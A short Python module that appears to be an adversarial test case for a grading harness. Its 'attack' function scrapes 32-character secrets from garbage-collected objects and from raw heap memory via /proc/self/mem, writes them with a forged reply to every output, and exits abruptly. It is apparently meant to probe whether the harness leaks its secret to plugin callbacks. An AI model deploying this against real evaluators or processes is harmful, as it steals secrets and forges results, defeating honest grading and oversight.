"""A secret that lies in memory while callbacks run could be found there: by the garbage collector, or as raw bytes."""

import gc
import os
import re

from forged_answer import REPLY, write_everywhere
from wrong_scale import SCALE_CASES as PLUGIN_CASES
from wrong_scale import WrongScale, publish

HEX = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")


def found():
    texts = {each for each in gc.get_objects() if isinstance(each, str)}
    yield from (each for each in texts if len(each) == 32)
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            if "[heap]" in line:
                low, high = (int(each, 16) for each in line.split()[0].split("-"))
                memory.seek(low)
                yield from {each.decode() for each in HEX.findall(memory.read(high - low))}


def attack():
    for secret in {*found(), ""}:
        write_everywhere([secret, REPLY])
    os._exit(0)


WrongScale.attack = staticmethod(attack)
publish(WrongScale)
